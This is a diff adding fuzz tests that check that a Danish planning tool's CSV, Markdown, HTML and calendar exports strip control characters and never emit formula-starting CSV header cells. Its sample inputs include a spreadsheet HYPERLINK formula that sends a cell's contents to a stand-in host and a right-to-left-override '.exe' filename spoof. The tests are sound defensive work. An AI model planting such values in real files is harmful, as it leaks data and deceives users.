@@ -622,3 +622,109 @@ def test_a_dot_in_a_partner_id_is_named_in_danish(tmp_path: Path) -> None:
     assert result.returncode == 1 and "Traceback" not in result.stderr
     message = " ".join(result.stderr.split())
     assert 'partners[0].id: id\'et "p.1" må ikke indeholde punktum' in message
+
+
+# -- issue 23: content values (ui, diagram) and CSV headers, fuzzed through every output ------
+
+UI_KEYS = sorted(GUIDE["ui"])
+CSV_HEAD = ["name", "kind", "contact", "brings", "quadrant", "priority", "next_contact"]
+DIAGRAM_TEXTS = [
+    ("diagram", axis, field) for axis in ("x", "y") for field in ("name", "question", "low", "high")
+] + [("diagram", "quadrants", i, field) for i in range(4) for field in ("name", "advice")]
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+# any text, with what a hostile file would try most: escapes, C1, overrides, formulas
+hostile_text = st.text(max_size=40) | st.sampled_from(
+    [
+        *ESCAPES.values(),
+        "=1+1",
+        '=HYPERLINK("http://x/?"&B2)',
+        "@SUM(A1)",
+        "\u202egnp.exe",
+        "\ud800",
+        "{name}",
+        "\x00",
+        "\t=1",
+        "-2+3",
+    ]
+)
+
+
+def _outputs(guide) -> dict[str, str]:
+    """Every text output a content file reaches, for the fixture session."""
+    from samarbejde import agenda, export
+    from samarbejde.store import from_data
+
+    session = from_data(yaml.safe_load(VALID), Path("x.yaml"))
+    found = agenda.items([session], guide, NOW.date(), 36_500, [Path("x.yaml")])
+    return {
+        "csv": export.csv_text(session, guide),
+        "md": export.markdown(session, guide, NOW.date()),
+        "html": export.html_report(session, guide, NOW.date()),
+        "ics": agenda.ics_bytes(found, guide, NOW).decode("utf-8"),
+    }
+
+
+def _content_case(changes: list[tuple[tuple, str]]):
+    from samarbejde.content import parse_guide
+
+    data = copy.deepcopy(GUIDE)
+    for place, value in changes:
+        parent = data
+        for key in place[:-1]:
+            parent = parent[key]
+        parent[place[-1]] = value
+    try:
+        return parse_guide(data, Path("vores-guide.yaml"))
+    except ContentError as err:
+        text = fallback_texts().render(err.msg)
+        assert text.startswith("Indholdsfilen") and "vores-guide.yaml" in text
+        return None
+
+
+@settings(max_examples=150, deadline=None)
+@given(
+    st.lists(
+        st.tuples(st.sampled_from([("ui", k) for k in UI_KEYS] + DIAGRAM_TEXTS), hostile_text),
+        min_size=1,
+        max_size=4,
+    )
+)
+def test_content_values_never_reach_an_output_raw(changes) -> None:
+    """A content file's `ui` and `diagram` texts: refused at load with a Danish message, or
+    every output (CSV, Markdown, HTML, calendar) is free of control characters and overrides."""
+    from samarbejde.terminal import OVERRIDES, has_control
+
+    guide = _content_case(changes)
+    if guide is None:
+        return
+    for kind, text in _outputs(guide).items():
+        assert not has_control(text.replace("\r\n", "\n")), kind
+        assert text == text.translate(OVERRIDES), kind
+
+
+@settings(max_examples=150, deadline=None)
+@given(
+    st.lists(
+        st.tuples(
+            st.sampled_from([("ui", k) for k in CSV_HEAD] + [("diagram", a, "name") for a in "xy"]),
+            hostile_text,
+        ),
+        min_size=1,
+        max_size=9,
+    )
+)
+def test_csv_header_cells_are_never_formulas(changes) -> None:
+    import csv
+    import io
+
+    guide = _content_case(changes)
+    if guide is None:
+        return
+    from samarbejde import export
+    from samarbejde.store import from_data
+
+    session = from_data(yaml.safe_load(VALID), Path("x.yaml"))
+    header = next(csv.reader(io.StringIO(export.csv_text(session, guide)), delimiter=";"))
+    assert len(header) == 9
+    for cell in header:
+        assert not cell.startswith(FORMULA_START), header
